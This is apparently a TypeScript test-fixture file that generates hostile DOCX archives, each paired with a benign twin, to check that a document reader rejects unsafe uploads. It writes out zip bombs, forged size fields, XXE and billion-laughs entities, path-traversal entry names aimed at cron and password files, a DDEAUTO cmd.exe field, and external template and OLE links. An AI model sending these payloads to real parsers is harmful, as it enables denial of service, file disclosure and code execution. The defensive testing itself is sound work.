import { makeDocx, makeZip, paragraph, type ZipPart } from '../../src/reading/zip-fixture.ts'
import { CANARY, escaped, type Family, file, nth, OUTSIDE_FILE, storyBody, TOLD, withNumber } from './family.ts'

// What a DOCX can be that is no report: an archive that swells, lies about its size, climbs out of itself or is nested beyond measure.

const MB = 1024 * 1024
const NO_DOCX = ['archive_unsafe', 'archive_broken', 'document_broken', 'document_encrypted', 'not_enough_text', 'document_needs_room']

const WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const RELATIONS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const part = (name: string, content: string): ZipPart => ({ name, content })
/** The relationships of the document. */
const relations = (inner: string): ZipPart =>
  part('word/_rels/document.xml.rels', `<?xml version="1.0"?><Relationships ${RELATIONS}>${inner}</Relationships>`)
const relation = (id: string, type: string, target: string, mode = ''): string =>
  `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}"${mode}/>`

const docx = (body: string, more: readonly ZipPart[] = [], head = ''): Uint8Array => makeDocx(body, { more, head })

const zipBombs: Family = {
  name: 'zip bombs',
  codes: NO_DOCX,
  mayBeRead: false,
  make: (number) => {
    const size = (2 + 3 * number) * MB
    const swollen = nth(
      [
        () => docx(storyBody(paragraph(' '.repeat(size)))),
        () => docx(storyBody(), [part('word/styles.xml', `<w:styles ${WORD}>${'<w:style/>'.repeat(size / 10)}</w:styles>`)]),
        () => docx(storyBody(paragraph('lô').repeat(size / 40))),
        () => docx(storyBody(), [part('docProps/core.xml', `<a>${'a'.repeat(size)}</a>`)]),
        () => docx(`<w:p>${`<w:r><w:t>${number}</w:t></w:r>`.repeat(size / 24)}</w:p>`)
      ],
      number
    )
    return file(`bom-${number}.docx`, swollen())
  },
  twin: {
    ...file(
      'dai.docx',
      docx(
        storyBody(
          Array.from({ length: 4000 }, (_, at) => paragraph(`Hộ số ${at} ở xã ${at % 37} cần ${(at * 7919) % 9973} đồng.`)).join('')
        )
      )
    ),
    says: [...TOLD, 'Hộ số 3999 ở xã 3']
  }
}

/** An archive's end says how many entries it has and where they begin; what stands there is what this changes. */
const withEnd = (bytes: Uint8Array, at: number, value: number): Uint8Array => withNumber(bytes, bytes.length - 22 + at, value)

const claimingArchives: Family = {
  name: 'ten gigabytes claimed',
  codes: NO_DOCX,
  mayBeRead: false,
  make: (number) => {
    const whole = docx(storyBody(paragraph(`Số ${number}.`)))
    const ten = 10_000_000_000
    const size = ten - number * 1000
    // The size of ten gigabytes stands in a further field, as archives of such a size have it.
    const extra = Buffer.alloc(20)
    extra.writeUInt16LE(1, 0)
    extra.writeUInt16LE(16, 2)
    extra.writeBigUInt64LE(BigInt(size), 4)
    extra.writeBigUInt64LE(BigInt(size), 12)
    const claims = [
      () => makeDocx(storyBody(), { claimed: 0xfffffffe - number }),
      () => makeDocx(storyBody(), { claimed: 0x7fffffff - number }),
      () => withEnd(whole, 10, 0xfffffff0 - number),
      () => withEnd(whole, 12, 0xfffffff0 - number),
      () => withEnd(whole, 16, 0xfffffff0 - number),
      () => withLargeEntry(number, extra)
    ]
    return file(`lon-${number}.docx`, nth(claims, number)())
  },
  twin: { ...file('that.docx', docx(storyBody(paragraph('Kho này chứa 10 GB dữ liệu quan trắc.')))), says: [...TOLD, '10 GB'] }
}

/** One entry whose size is the mark that a further field tells it, which says ten gigabytes. */
const withLargeEntry = (number: number, extra: Uint8Array): Uint8Array => {
  const name = Buffer.from('word/document.xml')
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(45, 4)
  local.writeUInt32LE(0xffffffff, 18)
  local.writeUInt32LE(0xffffffff, 22)
  local.writeUInt16LE(name.length, 26)
  local.writeUInt16LE(extra.length, 28)
  const entry = Buffer.alloc(46)
  entry.writeUInt32LE(0x02014b50, 0)
  entry.writeUInt32LE(0xffffffff, 20)
  entry.writeUInt32LE(0xffffffff, 24)
  entry.writeUInt16LE(name.length, 28)
  entry.writeUInt16LE(extra.length, 30)
  const data = Buffer.from(`<a>${number}</a>`)
  const start = local.length + name.length + extra.length + data.length
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(entry.length + name.length + extra.length, 12)
  end.writeUInt32LE(start, 16)
  return Buffer.concat([local, name, extra, data, entry, name, extra, end])
}

const entity = (number: number): string =>
  nth(
    [
      `<!DOCTYPE a [<!ENTITY x SYSTEM "${OUTSIDE_FILE}">]>`,
      `<!DOCTYPE a SYSTEM "${CANARY}/${number}.dtd">`,
      `<!DOCTYPE a [<!ENTITY % p SYSTEM "${CANARY}/${number}"> %p;]>`,
      `<!DOCTYPE a [<!ENTITY x PUBLIC "-//A//B//C" "${OUTSIDE_FILE}">]>`
    ],
    number
  )

const outsideEntities: Family = {
  name: 'entities from outside (XXE)',
  codes: NO_DOCX,
  mayBeRead: false,
  make: (number) => {
    const head = entity(number)
    const wide = Buffer.from(
      `\ufeff<?xml version="1.0" encoding="UTF-16"?>${head}<w:document ${WORD}>${storyBody(paragraph(`&x;${number}`))}</w:document>`,
      'utf16le'
    )
    const places = [
      () => docx(storyBody(paragraph(`&x;${number}`)), [], head),
      () => docx(storyBody(), [part('docProps/core.xml', `${head}<a>&x;${number}</a>`)]),
      () => docx(storyBody(), [part('word/styles.xml', `<?xml version="1.0"?>${head}<w:styles ${WORD}>&x;${number}</w:styles>`)]),
      () => docx('', [{ name: 'word/document.xml', content: wide }]),
      () => docx(storyBody(), [part('word/_rels/document.xml.rels', `${head}<Relationships ${RELATIONS}>&x;${number}</Relationships>`)])
    ]
    return file(`ngoai-${number}.docx`, nth(places, number + Math.floor(number / 5))())
  },
  twin: {
    ...file('ke.docx', docx(storyBody(paragraph(escaped(`Bài viết nói về "<!ENTITY x SYSTEM 'file'>" và &amp;.`))))),
    says: [...TOLD, "<!ENTITY x SYSTEM 'file'>"]
  }
}

const laughs = (levels: number, each: number): string => {
  const steps = Array.from({ length: levels }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(each)}">`)
  return `<!DOCTYPE l [<!ENTITY l0 "ha">${steps.join('')}]>`
}

const billionLaughs: Family = {
  name: 'billion laughs',
  codes: NO_DOCX,
  mayBeRead: false,
  make: (number) => {
    const levels = 6 + number
    const head = laughs(levels, 10)
    const say = `&l${levels};`
    const places = [
      () => docx(storyBody(paragraph(say)), [], head),
      () => docx(storyBody(), [part('word/numbering.xml', `${head}<w:numbering ${WORD}>${say}</w:numbering>`)]),
      () => docx(storyBody(), [part('[Content_Types].xml', `${head}<Types>${say}</Types>`)]),
      () => docx(storyBody(paragraph(`&a${number};`)), [], `<!DOCTYPE l [<!ENTITY a${number} "&a${number};">]>`)
    ]
    return file(`cuoi-${number}.docx`, nth(places, number)())
  },
  twin: {
    ...file('va.docx', docx(storyBody(paragraph(`${'&amp;amp; '.repeat(300)}Ông An &amp; bà Bình đồng ý.`)))),
    says: [...TOLD, 'Ông An & bà Bình đồng ý.']
  }
}

const climbingNames: Family = {
  name: 'names that climb out',
  codes: NO_DOCX,
  mayBeRead: true,
  make: (number) => {
    const climbs = [
      '../../../../etc/cron.d/hopluu',
      '/etc/passwd',
      'C:\\Windows\\System32\\evil.dll',
      '..\\..\\evil.exe',
      'word/../../evil.xml',
      'word/media/\u0000.xml',
      `word/${'../'.repeat(60)}tmp/evil.xml`,
      '//server/share/evil.xml',
      'word/\u202Exml.exe'
    ]
    const targets = [OUTSIDE_FILE, '../../../../etc/passwd', '/etc/passwd', `${CANARY}/template.xml`, '\\\\server\\share\\a.xml']
    const target = nth(targets, number)
    return number % 3 === 2
      ? file(
          `quan-he-${number}.docx`,
          docx(storyBody(paragraph(`Số ${number}.`)), [
            relations(
              relation(
                'r9',
                nth(['styles', 'footnotes', 'image', 'attachedTemplate'], number),
                target,
                number % 2 ? ' TargetMode="External"' : ''
              )
            )
          ])
        )
      : file(`../../leo-${number}.docx`, docx(storyBody(paragraph(`Số ${number}.`)), [part(nth(climbs, number), `<a>${number}</a>`)]))
  },
  twin: {
    // Word itself writes such a target.
    ...file(
      'bao cao (bản 2) của Sở.docx',
      docx(storyBody(), [relations(relation('r1', 'customXml', '../customXml/item1.xml')), part('customXml/item1.xml', '<a/>')])
    ),
    says: TOLD
  }
}

const nested = (name: string, depth: number, inner: string): string => `<${name}>`.repeat(depth) + inner + `</${name}>`.repeat(depth)

const deepArchives: Family = {
  name: 'deep nesting in DOCX',
  codes: NO_DOCX,
  mayBeRead: true,
  make: (number) => {
    const depth = 600 + number * 7000
    const bodies = [
      () => nested('w:p', depth, '<w:r><w:t>a</w:t></w:r>'),
      () => nested('w:tbl><w:tr><w:tc', depth, paragraph('a')).replaceAll('</w:tbl><w:tr><w:tc>', '</w:tc></w:tr></w:tbl>'),
      () => nested('w:ins', depth, paragraph('a')),
      () => '<w:p>'.repeat(depth),
      () => nested('w:sdt><w:sdtContent', depth, paragraph('a')).replaceAll('</w:sdt><w:sdtContent>', '</w:sdtContent></w:sdt>')
    ]
    return file(`sau-${number}.docx`, docx(storyBody(nth(bodies, number)())))
  },
  twin: {
    ...file(
      'bang.docx',
      docx(
        storyBody(
          `<w:tbl><w:tr><w:tc><w:tbl><w:tr><w:tc><w:tbl><w:tr><w:tc>${paragraph('Ô trong cùng của ba bảng lồng nhau.')}</w:tc></w:tr></w:tbl></w:tc></w:tr></w:tbl></w:tc></w:tr></w:tbl>`
        )
      )
    ),
    says: [...TOLD, 'Ô trong cùng của ba bảng lồng nhau.']
  }
}

const lyingArchives: Family = {
  name: 'archives that lie',
  codes: [...NO_DOCX, 'type_unknown', 'type_not_supported'],
  mayBeRead: true,
  make: (number, chance) => {
    const whole = docx(storyBody(paragraph(`Số ${number}.`)))
    const lies = [
      () => whole.slice(0, whole.length - 22 - number),
      () => withEnd(whole, 8, 0xffff_0000 + number),
      () => makeZip(Array.from({ length: 5000 + number }, (_, at) => part(`word/${at}.xml`, '<a/>'))),
      () => docx(storyBody(), [{ name: 'word/document.xml', content: `<a>${number}</a>` }]),
      () => makeZip([{ name: 'word/document.xml', content: `<a>${number}</a>`, encrypted: true }]),
      () => withNumber(whole, 14, chance.below(2 ** 31)),
      () => Buffer.concat([whole.slice(0, 100 + number), whole.slice(140 + number)]),
      () => makeZip([part('xl/workbook.xml', `<a>${number}</a>`)]),
      () => makeDocx(storyBody(), { target: `word/media/${number}.png`, more: [part(`word/media/${number}.png`, '<a/>')] })
    ]
    return file(`doi-${number}.docx`, nth(lies, number)())
  },
  twin: {
    ...file('them.docx', docx(storyBody(), [part('word/media/anh.png', 'không phải ảnh'), part('customXml/item2.xml', '<a/>')])),
    says: TOLD
  }
}

const foreignParts: Family = {
  name: 'macros and parts from elsewhere',
  codes: NO_DOCX,
  mayBeRead: true,
  make: (number) => {
    const say = paragraph(`Số ${number}.`)
    const field = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "${OUTSIDE_FILE}" ${number}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
    const dde = `<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc ${number}"</w:instrText></w:r></w:p>`
    const makes = [
      () => docx(storyBody(say), [part('word/vbaProject.bin', 'Sub AutoOpen()')]),
      () => docx(storyBody(say), [relations(relation('r1', 'attachedTemplate', `${CANARY}/${number}.dotm`, ' TargetMode="External"'))]),
      () =>
        docx(storyBody(`<w:altChunk r:id="r1"/>${say}`), [
          relations(relation('r1', 'aFChunk', 'chunk.html')),
          part('word/chunk.html', '<script>alert(1)</script>')
        ]),
      () => docx(storyBody(field)),
      () => docx(storyBody(dde)),
      () => docx(storyBody(say), [relations(relation('r1', 'oleObject', `${CANARY}/${number}`, ' TargetMode="External"'))]),
      () =>
        docx(storyBody(`<w:p><w:r><w:drawing><a:blip r:link="r1"/></w:drawing></w:r></w:p>${say}`), [
          relations(relation('r1', 'image', OUTSIDE_FILE, ' TargetMode="External"'))
        ])
    ]
    return file(`la-${number}.docx`, nth(makes, number)())
  },
  twin: {
    ...file(
      'lien-ket.docx',
      docx(storyBody('<w:p><w:hyperlink r:id="r1"><w:r><w:t>Xem trang của tỉnh.</w:t></w:r></w:hyperlink></w:p>'), [
        relations(relation('r1', 'hyperlink', 'https://songhong.example/', ' TargetMode="External"'))
      ])
    ),
    says: [...TOLD, 'Xem trang của tỉnh.']
  }
}

export const archiveFamilies: readonly Family[] = [
  zipBombs,
  claimingArchives,
  outsideEntities,
  billionLaughs,
  climbingNames,
  deepArchives,
  lyingArchives,
  foreignParts
]
